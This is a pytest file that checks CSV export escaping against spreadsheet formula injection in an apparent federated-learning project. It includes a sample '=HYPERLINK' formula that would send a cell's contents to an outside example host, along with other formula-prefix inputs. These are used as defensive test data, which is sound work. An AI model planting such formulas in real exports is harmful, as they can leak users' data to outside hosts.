"""No cell that we write is a formula to a spreadsheet, and reading gives the text back."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedul_flwr.data.csv_files import read_cell, write_cell
from fedul_flwr.data.local_files import read_rows
from fedul_flwr.data.run_files.label_files import read_labels, write_labels
from fedul_flwr.data.types import Propagated
from fedul_flwr.experiments.compare_table import csv_text

FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-x.png", "@SUM(A1)", "\tx", "\r=x", "'=x", "''-"])
def test_given_a_sign_in_front_when_written_then_a_quote_is_before_it(text: str) -> None:
    assert write_cell(text) == f"'{text}"
    assert read_cell(write_cell(text)) == text


@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
def test_given_any_text_when_written_and_read_then_it_is_the_same(text: str) -> None:
    written = write_cell(text)
    assert read_cell(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_given_a_file_with_a_formula_for_a_name_when_labeled_then_its_name_is_text(
    tmp_path: Path,
) -> None:
    found = Propagated(np.array([1]), np.array([0.5]))
    write_labels(tmp_path / "labels.csv", [FORMULA], found, ["sound", "-ill"])
    with (tmp_path / "labels.csv").open(newline="") as stream:
        _, row = csv.reader(stream)
    assert row == [f"'{FORMULA}", "1", "'-ill", "0.5"]
    names, _ = read_labels(tmp_path / "labels.csv")
    assert names == [FORMULA]
    # The same file may come back as an owner's known labels.
    rows, _ = read_rows(tmp_path / "labels.csv")
    assert rows[1][0] == FORMULA


def test_given_numbers_below_zero_when_written_then_they_stay_numbers() -> None:
    assert csv_text([{"run": "=1+1", "change": -0.5}]) == "run,change\n'=1+1,-0.5\n"
